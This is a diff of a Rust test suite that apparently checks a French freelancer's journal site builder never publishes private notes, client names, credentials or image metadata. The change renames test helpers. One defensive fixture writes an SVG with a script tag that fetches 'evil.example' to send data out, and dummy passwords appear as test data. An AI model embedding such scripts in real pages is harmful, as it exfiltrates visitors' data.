@@ -19,10 +19,10 @@
 //! with why it is private and where it was found (file and context, or path).
 
 mod privacy_support;
-mod site_support;
+mod support;
 
 use privacy_support::*;
-use site_support::TempBook;
+use support::TempBook;
 
 /// Builds the public site of `book` and checks, in one report, that no secret reached it and
 /// that every public marker did.
@@ -150,9 +150,9 @@ mod linked_files {
 
     fn case_study_linking(body: &str) -> TempBook {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte du site", "Hôtel Zqx7Client100", "un hôtel").body(body),
+            Journal::case_study("Refonte du site", "Hôtel Zqx7Client100", "un hôtel").body(body),
         );
         book
     }
@@ -162,9 +162,9 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nZqx7Pub101 : le plan du site est ci-dessous.\n\n![plan](notes-internes.md)\n",
         );
-        book.write(
+        book.file(
             "content/missions/2025/notes-internes.md",
-            &private_note("Zqx7ImgMd101"),
+            private_note("Zqx7ImgMd101"),
         );
         check(
             &book,
@@ -181,13 +181,13 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nZqx7Pub119 : deux plans.\n\n![plan][p] ![plan](/missions/2025/notes-abs.md)\n\n[p]: notes-ref.md\n",
         );
-        book.write(
+        book.file(
             "content/missions/2025/notes-ref.md",
-            &private_note("Zqx7RefImg119"),
+            private_note("Zqx7RefImg119"),
         )
-        .write(
+        .file(
             "content/missions/2025/notes-abs.md",
-            &private_note("Zqx7AbsImg120"),
+            private_note("Zqx7AbsImg120"),
         );
         check(
             &book,
@@ -210,9 +210,9 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nZqx7Pub121 : voir l'autre étude.\n\n![autre](autre-etude.md) ![moi](etude.md)\n\n## Accès\n\nZqx7SelfSrc122 : mot de passe.\n",
         );
-        book.write(
+        book.file(
             "content/missions/2025/autre-etude.md",
-            &Journal::case_study("Autre étude", "Zqx7Client121", "une école")
+            Journal::case_study("Autre étude", "Zqx7Client121", "une école")
                 .line("invoices:\n  - { number: \"Zqx7PubSrcInv121\", amount: 1200, issued: 2025-06-01, due: 2025-07-01 }")
                 .body("## Contexte\n\nZqx7Pub122 : une école.\n\n## Accès\n\nZqx7PubSrc121 : compte admin.\n"),
         );
@@ -243,9 +243,9 @@ mod linked_files {
     #[test]
     fn a_link_with_a_query_to_a_private_journal_does_not_copy_it() {
         let book = case_study_linking("## Contexte\n\nVoir [Zqx7Pub102 la note](autre.md?1).\n");
-        book.write(
+        book.file(
             "content/missions/2025/autre.md",
-            &private_note("Zqx7QueryMd102"),
+            private_note("Zqx7QueryMd102"),
         );
         check(
             &book,
@@ -260,9 +260,9 @@ mod linked_files {
     #[test]
     fn a_link_with_a_trailing_slash_to_a_private_journal_does_not_copy_it() {
         let book = case_study_linking("## Contexte\n\nVoir [Zqx7Pub103 la note](autre.md/).\n");
-        book.write(
+        book.file(
             "content/missions/2025/autre.md",
-            &private_note("Zqx7SlashMd103"),
+            private_note("Zqx7SlashMd103"),
         );
         check(
             &book,
@@ -279,9 +279,9 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nVoir [Zqx7Pub104 la note](notes%2Dinternes.md) et ![plan](notes%2Dinternes%2Emd).\n",
         );
-        book.write(
+        book.file(
             "content/missions/2025/notes-internes.md",
-            &private_note("Zqx7PctMd104"),
+            private_note("Zqx7PctMd104"),
         );
         check(
             &book,
@@ -298,11 +298,11 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nVoir [Zqx7Pub105 la note](./brouillons/../notes.md?v=2) et ![plan](./brouillons/../notes.md).\n",
         );
-        book.write(
+        book.file(
             "content/missions/2025/notes.md",
-            &private_note("Zqx7DotMd105"),
+            private_note("Zqx7DotMd105"),
         )
-        .write("content/missions/2025/brouillons/lisez-moi.txt", "vide\n");
+        .file("content/missions/2025/brouillons/lisez-moi.txt", "vide\n");
         check(
             &book,
             &[(
@@ -318,17 +318,17 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nZqx7Pub106 : voir <a href=\"zqx7rawhref106.md\">le détail</a>.\n\n<img src=\"zqx7rawsrc107.md\" alt=\"plan\">\n\n<p><a href=\"./zqx7rawblock108.md\">bloc</a></p>\n",
         );
-        book.write(
+        book.file(
             "content/missions/2025/zqx7rawhref106.md",
-            &private_note("Zqx7RawBody106"),
+            private_note("Zqx7RawBody106"),
         )
-        .write(
+        .file(
             "content/missions/2025/zqx7rawsrc107.md",
-            &private_note("Zqx7RawBody107"),
+            private_note("Zqx7RawBody107"),
         )
-        .write(
+        .file(
             "content/missions/2025/zqx7rawblock108.md",
-            &private_note("Zqx7RawBody108"),
+            private_note("Zqx7RawBody108"),
         );
         check(
             &book,
@@ -367,9 +367,9 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nZqx7Pub109 : la photo de la façade.\n\n![façade](img/facade.png)\n",
         );
-        book.write(
+        book.file(
             "content/missions/2025/notes.md",
-            &private_note("Zqx7Symlink109"),
+            private_note("Zqx7Symlink109"),
         );
         symlink(&book, "content/missions/2025/img/facade.png", "../notes.md");
         check(
@@ -387,7 +387,7 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nZqx7Pub110 : le scan du bon de commande.\n\n![scan](img/scan.png)\n",
         );
-        book.write(
+        book.file(
             "content/missions/2025/img/scan.png",
             "# Notes\n\nZqx7FakePng110 : mot de passe du back-office, hunter2.\n",
         );
@@ -406,7 +406,7 @@ mod linked_files {
     fn an_svg_is_not_copied() {
         let book =
             case_study_linking("## Contexte\n\nZqx7Pub111 : le logo.\n\n![logo](logo.svg)\n");
-        book.write(
+        book.file(
             "content/missions/2025/logo.svg",
             "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://evil.example/?Zqx7Svg111')</script><text>Zqx7Svg111</text></svg>\n",
         );
@@ -433,11 +433,11 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nVoir [Zqx7Pub112 le devis signé](devis.pdf) et [le contrat](docs/contrat.docx).\n",
         );
-        book.write(
+        book.file(
             "content/missions/2025/devis.pdf",
             "%PDF-1.4\n% Zqx7Pdf112 devis signé, 4 800 € HT, IBAN FR76…\n%%EOF\n",
         )
-        .write(
+        .file(
             "content/missions/2025/docs/contrat.docx",
             "PK\u{3}\u{4} Zqx7Docx113 contrat de prestation\n",
         );
@@ -455,11 +455,11 @@ mod linked_files {
     #[test]
     fn the_book_intro_cannot_publish_a_private_journal() {
         let book = case_study_linking("## Contexte\n\nZqx7Pub114 : une étude.\n");
-        book.write(
+        book.file(
             "content/_index.md",
             "---\ntitle: \"Carnet\"\n---\n\nZqx7Pub115 Bienvenue.\n\n![dernier litige](missions/2025/litige.md) et [mes notes](missions/2025/litige.md?x)\n",
         )
-        .write("content/missions/2025/litige.md", &private_note("Zqx7Intro114"));
+        .file("content/missions/2025/litige.md", private_note("Zqx7Intro114"));
         check(
             &book,
             &[(
@@ -473,13 +473,13 @@ mod linked_files {
     #[test]
     fn a_lessons_section_cannot_publish_a_private_journal() {
         let book = book();
-        book.write(
+        book.file(
             "content/missions/2024/bilan.md",
-            &Journal::lessons("Bilan", "Zqx7Client116", Some("une école")).body(
+            Journal::lessons("Bilan", "Zqx7Client116", Some("une école")).body(
                 "## Journal\n\nRien de public.\n\n## Leçons\n\nZqx7Pub116 : garder un schéma.\n\n![schéma](schema.md)\n",
             ),
         )
-        .write("content/missions/2024/schema.md", &private_note("Zqx7LessonImg116"));
+        .file("content/missions/2024/schema.md", private_note("Zqx7LessonImg116"));
         check(
             &book,
             &[(
@@ -495,9 +495,9 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nVoir [Zqx7Pub117 mes notes](zqx7plainname117.md).\n",
         );
-        book.write(
+        book.file(
             "content/missions/2025/zqx7plainname117.md",
-            &private_note("Zqx7PlainBody117"),
+            private_note("Zqx7PlainBody117"),
         );
         check(
             &book,
@@ -514,7 +514,7 @@ mod linked_files {
         let book = case_study_linking(
             "## Contexte\n\nZqx7Pub118 : la config.\n\n![x](../../../secret.png) [y](../../../secret.png)\n",
         );
-        book.write("secret.png", "Zqx7Outside118 identifiants\n");
+        book.file("secret.png", "Zqx7Outside118 identifiants\n");
         check(
             &book,
             &[(
@@ -535,9 +535,9 @@ mod private_sections {
     #[test]
     fn a_setext_underline_inside_access_does_not_end_it() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client200", "une boutique").body(
+            Journal::case_study("Refonte", "Zqx7Client200", "une boutique").body(
                 "## Contexte\n\nZqx7Pub201 : refonte complète.\n\n## Accès\n\nIdentifiants du back-office\n---\n\nZqx7Setext201 admin / hunter2\n\nCompte FTP\n===\n\nZqx7Setext202 ftp / hunter3\n\n## Leçons\n\nZqx7Pub202 : cadrer tôt.\n",
             ),
         );
@@ -560,9 +560,9 @@ mod private_sections {
     #[test]
     fn a_deeper_heading_inside_access_stays_in_it() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client203", "une boutique").body(
+            Journal::case_study("Refonte", "Zqx7Client203", "une boutique").body(
                 "## Contexte\n\nZqx7Pub203.\n\n## Accès\n\n### Hébergement\n\nZqx7Deeper203 compte OVH.\n\n###### Détail\n\nZqx7Deeper204 clé SSH.\n\n## Leçons\n\nZqx7Pub204.\n",
             ),
         );
@@ -609,9 +609,9 @@ mod private_sections {
         body.push_str("## Accessoires\n\nZqx7Pub207 : icônes.\n\n");
         body.push_str("## Facteurs de succès\n\nZqx7Pub208 : un seul interlocuteur.\n");
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client205", "une boutique").body(&body),
+            Journal::case_study("Refonte", "Zqx7Client205", "une boutique").body(&body),
         );
         let secrets: Vec<(&str, String)> = HEADINGS
             .iter()
@@ -628,9 +628,9 @@ mod private_sections {
     #[test]
     fn private_sections_at_every_depth_of_a_case_study() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client223", "une boutique").body(
+            Journal::case_study("Refonte", "Zqx7Client223", "une boutique").body(
                 "## Journal\n\nZqx7Pub223 : lancement.\n\n### Accès\n\nZqx7Nested223 compte GTM.\n\n#### Détail\n\nZqx7Nested224 encore dans Accès.\n\n### Suite\n\nZqx7Pub224 : la suite est publique.\n\n###### Factures\n\nZqx7Nested225 facture 2025-014.\n\n## Résultats\n\nZqx7Pub225 : +30 % de trafic.\n\n#### RGPD\n\nZqx7Nested226 fichier clients supprimé.\n",
             ),
         );
@@ -649,9 +649,9 @@ mod private_sections {
     #[test]
     fn private_sections_at_every_depth_of_a_lessons_section() {
         let book = book();
-        book.write(
+        book.file(
             "content/missions/2024/bilan.md",
-            &Journal::lessons("Bilan", "Zqx7Client227", Some("une école")).body(
+            Journal::lessons("Bilan", "Zqx7Client227", Some("une école")).body(
                 "## Journal\n\nZqx7NotLessons227 : le journal n'est pas publié.\n\n## Leçons\n\nZqx7Pub227 : écrire le devis.\n\n### Accès\n\nZqx7Nested228 compte encore ouvert.\n\n### Méthode\n\nZqx7Pub228 : un point par semaine.\n\n#### Factures\n\nZqx7Nested229 relance 3.\n\n##### RGPD\n\nZqx7Nested230 données gardées.\n\n#### Suite\n\nZqx7Pub229 : la suite de la méthode.\n\n## Passation\n\nZqx7NotLessons231 : hors leçons.\n",
             ),
         );
@@ -674,9 +674,9 @@ mod private_sections {
     #[test]
     fn an_access_heading_inside_a_footnote_definition_is_private() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client232", "une boutique").body(
+            Journal::case_study("Refonte", "Zqx7Client232", "une boutique").body(
                 "## Contexte\n\nZqx7Pub232 : voir la note[^outils].\n\n[^outils]: Zqx7Pub233 la liste des outils.\n    ## Accès\n    Zqx7FootAcces232 : mot de passe GTM hunter2.\n\n## Leçons\n\nZqx7Pub234 : documenter.\n",
             ),
         );
@@ -693,9 +693,9 @@ mod private_sections {
     #[test]
     fn definitions_inside_private_sections_are_not_followed_from_public_text() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client235", "une boutique").body(
+            Journal::case_study("Refonte", "Zqx7Client235", "une boutique").body(
                 "## Contexte\n\nZqx7Pub235 : voir [la console][adm] et la note[^cle].\n\n## Accès\n\n[adm]: https://zqx7refurl235.example/admin \"Zqx7RefTitle236\"\n\n[^cle]: Zqx7FootDef237 : identifiants du back-office.\n\n## Leçons\n\nZqx7Pub236.\n",
             ),
         );
@@ -719,9 +719,9 @@ mod private_sections {
     #[test]
     fn html_comments_are_not_published() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client238", "une boutique").body(
+            Journal::case_study("Refonte", "Zqx7Client238", "une boutique").body(
                 "## Contexte\n\nZqx7Pub238 : texte <!-- Zqx7Comment238 : tarif réel --> public.\n\n<!--\nZqx7Comment239 : le client m'a menacé.\n-->\n\nZqx7Pub239.\n",
             ),
         );
@@ -738,9 +738,9 @@ mod private_sections {
     #[test]
     fn access_headings_inside_quotes_and_list_items_are_private() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client240", "une boutique").body(
+            Journal::case_study("Refonte", "Zqx7Client240", "une boutique").body(
                 "## Contexte\n\nZqx7Pub240.\n\n> ## Accès\n> Zqx7Quote240 : compte admin.\n\n- ## Accès\n  Zqx7ListItem241 : clé API.\n\n## Leçons\n\nZqx7Pub241.\n",
             ),
         );
@@ -767,9 +767,9 @@ mod names {
     /// A book with one case study for `client`, whose body is `body`.
     fn case_study_naming(client: &str, body: &str) -> TempBook {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Étude de cas", client, ALIAS).body(body),
+            Journal::case_study("Étude de cas", client, ALIAS).body(body),
         );
         book
     }
@@ -839,9 +839,9 @@ mod names {
     #[test]
     fn a_name_in_the_tags_of_a_case_study_is_replaced() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Étude de cas", "Zqx7Tag305", ALIAS)
+            Journal::case_study("Étude de cas", "Zqx7Tag305", ALIAS)
                 .set("tags", "[web, zqx7tag305, \"hôtel Zqx7Tag305\"]")
                 .body("## Contexte\n\nZqx7Pub305 : une refonte.\n"),
         );
@@ -856,9 +856,9 @@ mod names {
     #[test]
     fn a_name_in_the_tags_of_a_lessons_mission_without_alias_is_replaced() {
         let book = book();
-        book.write(
+        book.file(
             "content/missions/2024/bilan.md",
-            &Journal::lessons("Bilan Zqx7Tag306", "Zqx7Tag306", None)
+            Journal::lessons("Bilan Zqx7Tag306", "Zqx7Tag306", None)
                 .set("tags", "[Zqx7Tag306, seo]")
                 .body("## Leçons\n\nZqx7Pub306 : écrire le devis.\n"),
         );
@@ -945,14 +945,14 @@ mod names {
     #[test]
     fn a_typographic_apostrophe_matches_a_straight_one() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Étude de cas", "L'Atelier Zqx7Apos312", ALIAS)
+            Journal::case_study("Étude de cas", "L'Atelier Zqx7Apos312", ALIAS)
                 .body("## Contexte\n\nZqx7Pub312 : chez L’Atelier Zqx7Apos312.\n"),
         )
-        .write(
+        .file(
             "content/missions/2025/etude-2.md",
-            &Journal::case_study("Autre étude", "L’Atelier Zqx7Apos313", ALIAS)
+            Journal::case_study("Autre étude", "L’Atelier Zqx7Apos313", ALIAS)
                 .body("## Contexte\n\nZqx7Pub313 : chez L'Atelier Zqx7Apos313.\n"),
         );
         check(
@@ -992,9 +992,9 @@ mod names {
         ];
         let book = book();
         for (i, (file, client, text)) in cases.iter().enumerate() {
-            book.write(
+            book.file(
                 &format!("content/missions/2025/{file}"),
-                &Journal::case_study(&format!("Étude {i}"), client, ALIAS).body(&format!(
+                Journal::case_study(&format!("Étude {i}"), client, ALIAS).body(&format!(
                     "## Contexte\n\nZqx7Pub314 : chez {text}, voilà.\n"
                 )),
             );
@@ -1139,9 +1139,9 @@ mod names {
     #[test]
     fn every_entry_of_client_names_is_hidden_like_client() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte Zqx7Brand328", "Société Zqx7Main327 SAS", ALIAS)
+            Journal::case_study("Refonte Zqx7Brand328", "Société Zqx7Main327 SAS", ALIAS)
                 .line("client_names: [\"Zqx7Brand328\", \"Jean Zqx7Contact329\"]")
                 .set("tags", "[web, zqx7brand328]")
                 .body("## Contexte\n\nZqx7Pub327 : Société Zqx7Main327 SAS, sa marque Zqx7Brand328 et son gérant Jean Zqx7Contact329.\n"),
@@ -1179,9 +1179,9 @@ mod names {
     #[test]
     fn a_name_in_ordinary_places_is_replaced() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte pour Maison Zqx7Plain331", "Maison Zqx7Plain331", ALIAS)
+            Journal::case_study("Refonte pour Maison Zqx7Plain331", "Maison Zqx7Plain331", ALIAS)
                 .body(
                     "## Chez Maison Zqx7Plain331\n\nZqx7Pub331 : Maison Zqx7Plain331 a validé, puis MAISON ZQX7PLAIN331 aussi, et Maison\nZqx7Plain331 sur deux lignes.\n\n- [ ] Maison Zqx7Plain331 dans une liste\n\n| client | avis |\n|---|---|\n| Maison Zqx7Plain331 | bon |\n\n> Maison Zqx7Plain331 en citation, [Maison Zqx7Plain331](https://example.org/) en lien, une note[^n].\n\n[^n]: Maison Zqx7Plain331 en note.\n",
                 ),
@@ -1197,9 +1197,9 @@ mod names {
     #[test]
     fn a_name_in_the_title_without_accents_is_replaced_everywhere_the_title_goes() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte pour ZQX7TITRE332", "Zqx7Titré332", ALIAS)
+            Journal::case_study("Refonte pour ZQX7TITRE332", "Zqx7Titré332", ALIAS)
                 .body("## Contexte\n\nZqx7Pub332 : refonte.\n"),
         );
         check_name(
@@ -1213,9 +1213,9 @@ mod names {
     #[test]
     fn the_public_url_comes_from_the_title_not_the_file_name() {
         let book = book();
-        book.write(
+        book.file(
             "content/missions/2025/refonte-hotelzqx7slug333.md",
-            &Journal::case_study("Refonte du site", "Hôtel Zqx7Slug333", ALIAS)
+            Journal::case_study("Refonte du site", "Hôtel Zqx7Slug333", ALIAS)
                 .body("## Contexte\n\nZqx7Pub333 : refonte.\n"),
         );
         let site = check_name(
@@ -1301,16 +1301,16 @@ mod facts {
             ),
         ];
         for (file, journal, marker, _) in &cases {
-            book.write(
+            book.file(
                 &format!("content/missions/2025/{file}"),
-                &journal.body(&format!(
+                journal.body(&format!(
                     "## Contexte\n\n{marker} : Agence Dupont, rue des Lilas.\n"
                 )),
             );
         }
-        book.write(
+        book.file(
             "content/missions/2025/valide.md",
-            &base().body("## Contexte\n\nZqx7Pub401 : une étude publiable.\n"),
+            base().body("## Contexte\n\nZqx7Pub401 : une étude publiable.\n"),
         );
         let secrets: Vec<(&str, String)> = cases
             .iter()
@@ -1345,16 +1345,16 @@ lint: { allow: [ { rule: access-open, reason: "Zqx7Allow412 : compte gardé expr
     #[test]
     fn front_matter_facts_never_reach_the_public_build() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client405", "une agence")
+            Journal::case_study("Refonte", "Zqx7Client405", "une agence")
                 .set("case_study", "{ consent: 2037-07-01 }")
                 .line(FACTS)
                 .body("## Contexte\n\nZqx7Pub405 : une refonte.\n"),
         )
-        .write(
+        .file(
             "content/missions/2024/bilan.md",
-            &Journal::lessons("Bilan", "Zqx7Client413", Some("une école"))
+            Journal::lessons("Bilan", "Zqx7Client413", Some("une école"))
                 .line(&FACTS.replace("Zqx7", "Zqx7L"))
                 .body("## Leçons\n\nZqx7Pub406 : écrire le devis.\n"),
         );
@@ -1406,12 +1406,12 @@ lint: { allow: [ { rule: access-open, reason: "Zqx7Allow412 : compte gardé expr
     /// feed, sitemap or file name of a public build.
     #[test]
     fn the_author_table_never_reaches_the_public_build() {
-        let book = TempBook::new(&format!(
+        let book = TempBook::with_toml(&format!(
             "{BOOK_TOML}\n[author]\nname = \"Zqx7Author417\"\nbusiness = \"Zqx7Business418 EI\"\nsiret = \"Zqx7Siret419\"\naddress = \"12 rue Zqx7AuthAddr420\\n69003 Lyon\"\nemail = \"zqx7authmail421@example.org\"\nphone = \"06 98 76 54 32\"\ncity = \"Zqx7City422\"\n\n[money]\nlate-rate = 47.31\nformal-notice-days = 13\nvat = \"none\"\n"
         ));
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client417", "une agence")
+            Journal::case_study("Refonte", "Zqx7Client417", "une agence")
                 .line("client_contact: { name: \"Zqx7Contact423\", email: \"zqx7mail424@example.org\", address: \"3 place Zqx7Addr425\\n69001 Lyon\" }")
                 .body("## Contexte\n\nZqx7Pub417 : une refonte.\n"),
         );
@@ -1444,23 +1444,23 @@ lint: { allow: [ { rule: access-open, reason: "Zqx7Allow412 : compte gardé expr
     #[test]
     fn a_lessons_only_mission_shows_only_its_year() {
         let book = book();
-        book.write(
+        book.file(
             "content/missions/2023/bilan.md",
-            &Journal::lessons("Bilan", "Zqx7Client414", Some("une école"))
+            Journal::lessons("Bilan", "Zqx7Client414", Some("une école"))
                 .set("start", "2023-02-13")
                 .set("end", "2023-11-27")
                 .body("## Journal\n\n### 2023-02-13 — Lancement\n\nAtelier.\n\n## Leçons\n\nZqx7Pub414 : écrire le devis.\n"),
         )
-        .write(
+        .file(
             "content/missions/2022/bilan.md",
-            &Journal::lessons("Bilan ancien", "Zqx7Client415", None)
+            Journal::lessons("Bilan ancien", "Zqx7Client415", None)
                 .set("start", "2022-03-14")
                 .set("end", "2022-08-19")
                 .body("## Leçons\n\nZqx7Pub415 : facturer un acompte.\n"),
         )
-        .write(
+        .file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client416", "une agence")
+            Journal::case_study("Refonte", "Zqx7Client416", "une agence")
                 .body("## Contexte\n\nZqx7Pub416 : une refonte.\n"),
         );
         let site = check(&book, &[], &["Zqx7Pub414", "Zqx7Pub415", "Zqx7Pub416"]);
@@ -1521,9 +1521,9 @@ mod image_metadata {
 
     fn case_study_showing(image: &str, public: &str) -> TempBook {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client500", "une boutique").body(&format!(
+            Journal::case_study("Refonte", "Zqx7Client500", "une boutique").body(&format!(
                 "## Contexte\n\n{public} : la nouvelle façade.\n\n![façade]({image})\n"
             )),
         );
@@ -1640,9 +1640,9 @@ mod image_metadata {
     #[test]
     fn image_metadata_beyond_the_listed_chunks_is_stripped_too() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client520", "une boutique").body(
+            Journal::case_study("Refonte", "Zqx7Client520", "une boutique").body(
                 "## Contexte\n\nZqx7Pub521 : trois images.\n\n![a](a.gif) ![b](b.jpg) ![c](c.png)\n",
             ),
         );
@@ -1676,9 +1676,9 @@ mod image_metadata {
     #[test]
     fn an_image_shown_only_in_a_private_section_is_not_copied() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client530", "une boutique").body(
+            Journal::case_study("Refonte", "Zqx7Client530", "une boutique").body(
                 "## Contexte\n\nZqx7Pub531 : la façade.\n\n![façade](public.png)\n\n## Accès\n\n![capture du back-office](capture.png)\n",
             ),
         );
@@ -1715,15 +1715,15 @@ mod lint_agreement {
     #[test]
     fn a_name_in_a_private_subsection_of_the_lessons_is_not_reported() {
         let book = book();
-        book.write(
+        book.file(
             "content/missions/2024/bilan.md",
-            &Journal::lessons("Bilan", "Zqx7Client601", Some("une école Zqx7Alias601")).body(
+            Journal::lessons("Bilan", "Zqx7Client601", Some("une école Zqx7Alias601")).body(
                 "## Leçons\n\nZqx7Pub601 : cadrer le périmètre.\n\n### Accès\n\n- [x] compte de Zqx7Client601 fermé\n\n### Suite\n\nZqx7Pub602 : relancer tôt.\n",
             ),
         )
-        .write(
+        .file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Client603", "une boutique Zqx7Alias603").body(
+            Journal::case_study("Refonte", "Zqx7Client603", "une boutique Zqx7Alias603").body(
                 "## Contexte\n\nZqx7Pub603.\n\n#### Factures\n\nFacture de Zqx7Client603 payée.\n\n## Accès (outils)\n\nCompte GTM de Zqx7Client603.\n",
             ),
         );
@@ -1751,14 +1751,14 @@ mod lint_agreement {
     #[test]
     fn a_near_miss_is_neither_reported_nor_replaced() {
         let book = book();
-        book.write(
+        book.file(
             CASE,
-            &Journal::case_study("Refonte", "Zqx7Roussel604", "une boutique Zqx7Alias604")
+            Journal::case_study("Refonte", "Zqx7Roussel604", "une boutique Zqx7Alias604")
                 .body("## Contexte\n\nZqx7Pub604 : le cabinet Zqx7Roussel604ot n'a rien à voir.\n"),
         )
-        .write(
+        .file(
             "content/missions/2025/cabinet.md",
-            &Journal::case_study("Étude", "Cabinet Zqx7Rous605", "un cabinet Zqx7Alias605")
+            Journal::case_study("Étude", "Cabinet Zqx7Rous605", "un cabinet Zqx7Alias605")
                 .body("## Contexte\n\nZqx7Pub605 : Zqx7Rous605 seul n'est pas le nom du client.\n"),
         );
         assert_eq!(
@@ -1937,7 +1937,7 @@ mod lint_agreement {
         let (text, lines) = agreement_journal(case_study, title_named, tags_named, placements);
         let book = book();
         let rel = "content/missions/2025/mission.md";
-        book.write(rel, &text);
+        book.file(rel, &text);
         write_bytes(&book, "content/missions/2025/logo.png", &png(77, &[], &[]));
         let expected = lines.into_iter().map(|l| (rel.to_string(), l)).collect();
         (book, text, expected)
@@ -2219,7 +2219,7 @@ mod lint_agreement {
 
     #[test]
     fn lint_and_build_agree_on_the_example_book() {
-        let root = site_support::example_book();
+        let root = support::site::example_book();
         let content = root.join("content");
         let mut expected = Vec::new();
         let mut all_names = Vec::new();
@@ -2694,10 +2694,10 @@ mod properties {
         g.public.push("Zqx7Alias700".to_string());
         let text = journal.body(&g.body);
         let book = book();
-        book.write("content/missions/2025/zqx7file904-mission.md", &text)
-            .write(
+        book.file("content/missions/2025/zqx7file904-mission.md", &text)
+            .file(
                 "content/missions/2025/autre.md",
-                &Journal::private("Zqx7PrivTitle905", "Client confidentiel")
+                Journal::private("Zqx7PrivTitle905", "Client confidentiel")
                     .set("tags", "[Zqx7PrivTag906]")
                     .body("Zqx7PrivBody907 rien de public.\n"),
             );
@@ -2790,9 +2790,9 @@ mod serve_origin {
     /// the search index.
     fn private_book() -> TempBook {
         let book = book();
-        book.write(
+        book.file(
             "content/missions/2025/secret.md",
-            &Journal::private("Zqx7Serve701 litige", "Zqx7ServeClient702")
+            Journal::private("Zqx7Serve701 litige", "Zqx7ServeClient702")
                 .body("## Journal\n\nZqx7Serve703 : le client doit 4 000 €.\n"),
         );
         book
